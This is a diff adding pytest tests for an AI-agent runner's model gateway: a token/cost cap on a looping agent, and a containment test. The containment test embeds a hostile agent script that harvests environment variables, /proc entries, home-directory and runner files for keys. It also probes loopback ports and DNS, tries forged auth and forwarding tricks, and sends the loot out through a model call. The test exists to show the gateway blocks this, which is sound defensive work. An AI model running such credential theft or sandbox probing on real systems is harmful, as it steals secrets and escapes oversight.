@@ -15,6 +15,7 @@ import textwrap
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlsplit
 
 import pytest
 from github_emulator.llm import AnthropicEmulator, OpenAIEmulator, Reply
@@ -152,3 +153,169 @@ def test_a_cli_reaches_both_models_through_the_gateway_with_only_a_placeholder(
     assert "Hello from Claude" in text and "say hello" in text and "stream it" in text
     assert "message_stop" in text and "[DONE]" in text  # the streamed answers, as they passed
     assert ANTHROPIC_KEY not in text and OPENAI_KEY not in text and PLACEHOLDER_PREFIX not in text
+
+
+LOOPING_AGENT = '''
+    # A model that never finishes: call it again and again until the gateway says no.
+    messages = [{"role": "user", "content": "Fix everything."}]
+    while True:
+        status, text = openai({"model": "gpt-4o", "max_tokens": 100, "messages": messages})
+        if status != 200:
+            print(f"model call failed with {status}: {text}")
+            sys.exit(1)
+        messages = messages[:1] + [{"role": "assistant", "content": "Working."}, {"role": "user", "content": "Go on."}]
+'''
+
+
+@pytest.mark.parametrize(("cap", "allowed_calls", "says"), [
+    ({"max_tokens_per_task": 3500}, 3, "MAX_TOKENS_PER_TASK"),  # 1100 tokens a call: a 4th would make 4400
+    ({"max_cost_usd_per_task": 0.01}, 2, "MAX_COST_USD_PER_TASK"),  # $0.0035 a call: a 3rd would make $0.0105
+])
+def test_a_model_that_never_finishes_is_stopped_before_the_call_that_would_cross_the_cap(
+    world: World, models: tuple[AnthropicEmulator, OpenAIEmulator], cap: dict, allowed_calls: int, says: str,
+) -> None:
+    _, gpt = models
+    gpt.script([Reply.text("Working.", input_tokens=1000, output_tokens=100)] * 20)
+    agent = agent_script(world.root, LOOPING_AGENT)
+    number = world.file_issue(dispatch_body(instruction="Loop forever."))
+
+    outcomes = world.run_once(**settings(world, agent, models, command_gateway="openai", **cap))
+
+    assert [o.status for o in outcomes] == ["failed"]
+    assert len(gpt.completions) == allowed_calls  # the call that would cross the cap never left
+    comment = [c["body"] for c in world.comments(number) if "agent-runner:result" in c["body"]][-1]
+    spent = allowed_calls * 1100
+    assert f"`python3` used {spent} tokens ({allowed_calls * 1000} input, {allowed_calls * 100} output)" in comment
+    assert says in comment and "refused its next model call" in comment, comment
+    assert "Raise `MAX_TOKENS_PER_TASK` / `MAX_COST_USD_PER_TASK`" in comment
+    assert "agent-failed" in world.labels(number) and world.pulls() == []
+    events = [json.loads(line) for line in transcript(world, number).splitlines()]
+    refused = [e for e in events if e["kind"] == "refused"]
+    assert len(refused) == 1 and says in refused[0]["text"]
+
+
+HOSTILE_AGENT = '''
+    import glob, socket
+    from urllib.parse import urlsplit
+    CONFIG = json.load(open(os.path.join(os.path.dirname(__file__), "config.json")))
+    loot, lines = [], []
+    base = os.environ["OPENAI_BASE_URL"]
+    port = urlsplit(base).port
+
+    def note(label, result):
+        lines.append(f"{label}={result}")
+
+    # 1. The real key, from everything readable: the environment, every process's, the home, the files.
+    loot.append(json.dumps(dict(os.environ)))
+    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
+        try:
+            loot.append(open(path, "rb").read().decode("utf-8", "replace"))
+        except OSError:
+            pass
+    for root, _dirs, files in os.walk(os.environ.get("HOME", "/tmp")):
+        for name in files:
+            try:
+                loot.append(open(os.path.join(root, name), "rb").read(65536).decode("utf-8", "replace"))
+            except OSError:
+                pass
+    for path in glob.glob("/run/agent-runner/**", recursive=True):
+        if os.path.isfile(path):
+            loot.append(open(path, "rb").read().decode("utf-8", "replace"))
+    note("env-and-proc", f"read {len(loot)} sources")
+
+    # 2. Other addresses: the GitHub emulator, the model server itself, other loopback ports.
+    for label, target in [("github", CONFIG["github_port"]), ("model-server", CONFIG["model_port"]),
+                          ("port-22", 22), ("port-5432", 5432), ("port-80", 80)]:
+        try:
+            socket.create_connection(("127.0.0.1", target), timeout=2).close()
+            note(label, "CONNECTED")
+        except OSError as exc:
+            note(label, f"blocked ({exc.strerror or exc})")
+    for host in ("api.openai.com", "github.com"):
+        try:
+            socket.getaddrinfo(host, 443)
+            note(f"dns-{host}", "RESOLVED")
+        except OSError as exc:
+            note(f"dns-{host}", f"blocked ({exc})")
+
+    # 3. The gateway with a wrong key, without a key, and on routes that are not model calls.
+    body = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]}
+    def raw(head, payload=b""):
+        with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
+            conn.sendall(head.encode() + payload)
+            data = b""
+            while chunk := conn.recv(65536):
+                data += chunk
+        loot.append(data.decode("utf-8", "replace"))
+        return int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else 0
+    good = os.environ["OPENAI_API_KEY"]
+    payload = json.dumps(body).encode()
+    for label, head in [
+        ("wrong-key", f"POST /v1/chat/completions HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer sk-guess\\r\\n"),
+        ("no-key", "POST /v1/chat/completions HTTP/1.1\\r\\nHost: x\\r\\n"),
+        ("files-route", f"POST /v1/files HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer {good}\\r\\n"),
+        ("github-route", f"POST /repos/octocat/target/pulls HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer {good}\\r\\n"),
+        ("connect", f"CONNECT 127.0.0.1:{CONFIG['github_port']} HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer {good}\\r\\n"),
+    ]:
+        status = raw(head + f"Content-Length: {len(payload)}\\r\\nConnection: close\\r\\n\\r\\n", payload)
+        note(label, str(status) if status in (401, 403) else f"ANSWERED {status}")
+
+    # 4. Make the gateway forward elsewhere: an absolute URI, then a Host header, naming the GitHub emulator.
+    gh = f"127.0.0.1:{CONFIG['github_port']}"
+    for label, head in [
+        ("absolute-uri", f"POST http://{gh}/v1/chat/completions HTTP/1.1\\r\\nHost: {gh}\\r\\n"),
+        ("host-header", f"POST /v1/chat/completions HTTP/1.1\\r\\nHost: {gh}\\r\\n"),
+    ]:
+        status = raw(head + f"Authorization: Bearer {good}\\r\\nContent-Length: {len(payload)}\\r\\n"
+                     "Connection: close\\r\\n\\r\\n", payload)
+        note(label, f"answered {status} by the configured model server")
+
+    # 5. Send everything found to the model: whatever the model server receives, a hostile model could keep.
+    status, text = openai({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "\\n".join(loot)}]})
+    loot.append(text)
+    note("exfiltrate", str(status))
+    open("hostile-report.txt", "w").write("\\n".join(lines) + "\\n")
+    print("\\n".join(lines))
+'''
+
+
+def test_a_hostile_agent_cannot_get_the_key_or_another_destination(
+    world: World, models: tuple[AnthropicEmulator, OpenAIEmulator]
+) -> None:
+    claude, gpt = models
+    gpt.script([Reply.text("absolute"), Reply.text("host"), Reply.text("thanks for the loot")])
+    config = {"github_port": urlsplit(world.emu.base_url).port, "model_port": urlsplit(gpt.base_url).port}
+    agent = agent_script(world.root, HOSTILE_AGENT)
+    (agent.parent / "config.json").write_text(json.dumps(config))
+    number = world.file_issue(dispatch_body(instruction="Steal the key."))
+
+    outcomes = world.run_once(**settings(world, agent, models))
+
+    assert [o.status for o in outcomes] == ["succeeded"]
+    report = world.emu.file_at(TARGET, world.pulls()[0]["head"]["ref"], "hostile-report.txt")
+    results = dict(line.split("=", 1) for line in report.splitlines())
+    assert int(results["env-and-proc"].split()[1]) > 5, report  # the attack ran
+    for label in ("github", "model-server", "port-22", "port-5432", "port-80"):
+        assert results[label].startswith("blocked"), report
+    assert results["dns-api.openai.com"].startswith("blocked") and results["dns-github.com"].startswith("blocked")
+    assert results["wrong-key"] == "401" and results["no-key"] == "401", report
+    assert results["files-route"] == "403" and results["github-route"] == "403" and results["connect"] == "403"
+    assert results["absolute-uri"] == results["host-header"] == "answered 200 by the configured model server"
+    assert results["exfiltrate"] == "200"
+    # Everything went to the configured model server only, as that server: with the real key and its own Host.
+    assert len(gpt.completions) == 3 and claude.requests == []
+    model_host = gpt.base_url.removeprefix("http://")
+    assert all(r.headers["host"] == model_host for r in gpt.requests)
+    # All the agent could collect reached the model, and none of it is a key.
+    loot = gpt.completions[-1].raw
+    assert "OPENAI_API_KEY" in loot and len(loot) > 1000
+    for key in (OPENAI_KEY, ANTHROPIC_KEY):
+        assert key not in loot and key[8:-4] not in loot
+        assert all(key not in r.raw and key not in json.dumps(dict(r.headers)) for r in gpt.requests)
+    # The task reports honestly: it succeeded, and the comment says what the gateway refused.
+    comment = world.comments(number)[-1]["body"]
+    assert "The model gateway refused 5 request(s)" in comment, comment
+    assert "`POST /v1/files (403)`" in comment and "(401)" in comment
+    assert OPENAI_KEY not in comment and PLACEHOLDER_PREFIX not in comment
+    text = transcript(world, number)
+    assert OPENAI_KEY not in text and PLACEHOLDER_PREFIX not in text
